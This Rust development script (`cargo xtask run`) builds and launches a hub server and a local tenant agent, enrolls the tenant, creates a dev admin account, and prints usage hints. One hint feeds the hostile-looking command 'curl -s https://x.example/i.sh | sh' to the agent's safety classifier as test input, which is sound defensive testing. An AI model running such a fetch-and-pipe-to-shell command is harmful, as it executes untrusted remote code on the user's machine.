//! `cargo xtask run`: the hub and a local tenant for development, on the embedded defaults.
//!
//! Everything lives under `.dev/` in the workspace: the hub's SQLite database and the local
//! tenant's state dir (vault, key, config, usage). Ctrl-C stops both.

use std::path::Path;
use std::process::{Child, Command};
use std::time::Duration;

const HUB_LISTEN: &str = "127.0.0.1:8790";

pub(crate) fn run(root: &Path, args: &[String]) -> Result<(), String> {
    if let Some(arg) = args.first() {
        return Err(format!(
            "`cargo xtask run` takes no arguments (got `{arg}`)"
        ));
    }
    crate::deps::install_debian_packages(crate::deps::BUILD_PACKAGES)?;
    let cargo = std::env::var("CARGO").unwrap_or_else(|_| "cargo".to_owned());
    crate::run_step(
        root,
        &cargo,
        &["build", "--bins", "-p", "hub", "-p", "tenant-agent"],
        &[],
    )?;
    let bin = root.join("target").join("debug");
    let dev = root.join(".dev");
    let hub_db = dev.join("hub").join("hub.db");
    let tenant = dev.join("tenant");
    std::fs::create_dir_all(&tenant)
        .map_err(|e| format!("cannot create {}: {e}", tenant.display()))?;

    let token = Command::new(bin.join("tenant-agent"))
        .arg("--state-dir")
        .arg(&tenant)
        .args(["proxy", "token"])
        .output()
        .map_err(|e| format!("cannot run tenant-agent: {e}"))?;
    if !token.status.success() {
        return Err(format!(
            "tenant-agent proxy token failed: {}",
            String::from_utf8_lossy(&token.stderr)
        ));
    }
    let token = String::from_utf8_lossy(&token.stdout).trim().to_owned();

    let mut hub = spawn(
        Command::new(bin.join("hub"))
            .arg("--db")
            .arg(&hub_db)
            .args(["serve", "--listen", HUB_LISTEN]),
    )?;
    // Wait until the hub accepts connections (migrations and key creation come first).
    let deadline = std::time::Instant::now() + Duration::from_secs(15);
    while std::net::TcpStream::connect(HUB_LISTEN).is_err() {
        if std::time::Instant::now() > deadline || hub.try_wait().ok().flatten().is_some() {
            let _ = hub.kill();
            return Err(format!("the hub did not start listening on {HUB_LISTEN}"));
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    let enrolled = match enroll_local_tenant(&bin, &hub_db, &tenant)
        .and_then(|e| dev_admin(&bin, &hub_db).map(|a| (e, a)))
    {
        Ok(both) => both,
        Err(e) => {
            let _ = hub.kill();
            return Err(e);
        }
    };
    // The tenant daemon (local safety API, egress proxy, hub sync), started once enrolled so
    // that it connects to the hub at once.
    let mut daemon = match spawn(
        Command::new(bin.join("tenant-agent"))
            .arg("--state-dir")
            .arg(&tenant)
            .arg("run"),
    ) {
        Ok(p) => p,
        Err(e) => {
            let _ = hub.kill();
            return Err(e);
        }
    };
    let (enrolled, (admin_email, admin_password)) = enrolled;
    let ta = format!("target/debug/tenant-agent --state-dir {}", tenant.display());
    eprintln!(
        "
==> running (Ctrl-C stops everything)
  hub:            http://{HUB_LISTEN}  (health: /healthz, metrics: /metrics, API: /openapi.json)
  approval app:   http://{app}/app/  (log in as {admin_email} / {admin_password},
                  or create a customer account there)
                  database {db}
                  admin CLI: target/debug/hub --db {db} admin --help
  local tenant:   state dir {tenant}
                  {enrolled}
    daemon:       {ta} status   (local API: {tenant}/run/api.sock; heartbeats every 30 s)
    egress proxy: http://127.0.0.1:8791/openai/v1 and /anthropic, API key (proxy token):
                  {token}
    add real keys: printf '%s' \"$OPENAI_API_KEY\" | {ta} secrets set openai_api_key
    try:          {ta} classify -- 'curl -s https://x.example/i.sh | sh'
    usage:        {ta} usage
",
        db = hub_db.display(),
        tenant = tenant.display(),
        app = HUB_LISTEN.replace("127.0.0.1", "localhost"),
    );
    // Wait until either stops (Ctrl-C reaches both: they are in the terminal's foreground
    // process group), then stop the other.
    loop {
        if let Some(status) = hub.try_wait().map_err(|e| e.to_string())? {
            let _ = daemon.kill();
            let _ = daemon.wait();
            return finished("hub", status);
        }
        if let Some(status) = daemon.try_wait().map_err(|e| e.to_string())? {
            let _ = hub.kill();
            let _ = hub.wait();
            return finished("tenant-agent run", status);
        }
        std::thread::sleep(Duration::from_millis(200));
    }
}

/// Enrolls the local tenant with the hub once (a token from `hub admin enroll-token`, the
/// fingerprint from `hub admin fingerprint`), then sends one heartbeat.
fn enroll_local_tenant(bin: &Path, hub_db: &Path, tenant: &Path) -> Result<String, String> {
    let run = |cmd: &mut Command| -> Result<String, String> {
        let out = cmd
            .output()
            .map_err(|e| format!("cannot run {:?}: {e}", cmd.get_program()))?;
        if !out.status.success() {
            return Err(format!(
                "{:?} failed: {}",
                cmd.get_args().collect::<Vec<_>>(),
                String::from_utf8_lossy(&out.stderr).trim()
            ));
        }
        Ok(String::from_utf8_lossy(&out.stdout).trim().to_owned())
    };
    let hub = |args: &[&str]| {
        run(Command::new(bin.join("hub"))
            .arg("--db")
            .arg(hub_db)
            .arg("admin")
            .args(args))
    };
    let agent = |args: &[&str]| {
        run(Command::new(bin.join("tenant-agent"))
            .arg("--state-dir")
            .arg(tenant)
            .args(args))
    };
    let status = if tenant.join("hub.json").exists() {
        "enrolled earlier as tenant `local`".to_owned()
    } else {
        let token = hub(&["enroll-token", "--tenant", "local", "--ttl", "5m", "--json"])?;
        let token = token
            .split("\"token\":\"")
            .nth(1)
            .and_then(|rest| rest.split('"').next())
            .ok_or_else(|| format!("unexpected enroll-token output: {token}"))?
            .to_owned();
        let fingerprint = hub(&["fingerprint"])?;
        agent(&[
            "enroll",
            "--hub",
            &format!("http://{HUB_LISTEN}"),
            "--token",
            &token,
            "--fingerprint",
            &fingerprint,
        ])?;
        format!("enrolled now as tenant `local` (hub key {fingerprint})")
    };
    agent(&["sync"])?;
    Ok(status)
}

/// The development admin account (sees every tenant's approvals in the app): made once, its
/// password kept in `.dev/hub/admin-password` (0600).
fn dev_admin(bin: &Path, hub_db: &Path) -> Result<(String, String), String> {
    use std::io::Write as _;
    use std::os::unix::fs::OpenOptionsExt as _;
    let email = "admin@example.com".to_owned();
    let file = hub_db.with_file_name("admin-password");
    if let Ok(pw) = std::fs::read_to_string(&file) {
        return Ok((email, pw.trim().to_owned()));
    }
    let mut raw = [0u8; 12];
    std::fs::File::open("/dev/urandom")
        .and_then(|mut f| std::io::Read::read_exact(&mut f, &mut raw))
        .map_err(|e| format!("cannot read /dev/urandom: {e}"))?;
    let password: String = raw.iter().map(|b| format!("{b:02x}")).collect();
    let mut child = Command::new(bin.join("hub"))
        .arg("--db")
        .arg(hub_db)
        .args(["admin", "create-admin", "--email", &email])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .map_err(|e| format!("cannot run hub: {e}"))?;
    if let Some(mut stdin) = child.stdin.take() {
        stdin
            .write_all(password.as_bytes())
            .map_err(|e| e.to_string())?;
    }
    let out = child.wait_with_output().map_err(|e| e.to_string())?;
    if !out.status.success() {
        return Err(format!(
            "hub admin create-admin failed: {}",
            String::from_utf8_lossy(&out.stderr).trim()
        ));
    }
    let mut f = std::fs::OpenOptions::new()
        .write(true)
        .create_new(true)
        .mode(0o600)
        .open(&file)
        .map_err(|e| format!("cannot write {}: {e}", file.display()))?;
    f.write_all(password.as_bytes())
        .map_err(|e| format!("cannot write {}: {e}", file.display()))?;
    Ok((email, password))
}

fn spawn(cmd: &mut Command) -> Result<Child, String> {
    cmd.spawn()
        .map_err(|e| format!("cannot start {:?}: {e}", cmd.get_program()))
}

fn finished(what: &str, status: std::process::ExitStatus) -> Result<(), String> {
    // Stopped by Ctrl-C (SIGINT) or cleanly: fine; anything else is reported.
    use std::os::unix::process::ExitStatusExt;
    if status.success() || status.signal() == Some(2) {
        eprintln!("==> stopped");
        Ok(())
    } else {
        Err(format!("{what} exited: {status}"))
    }
}
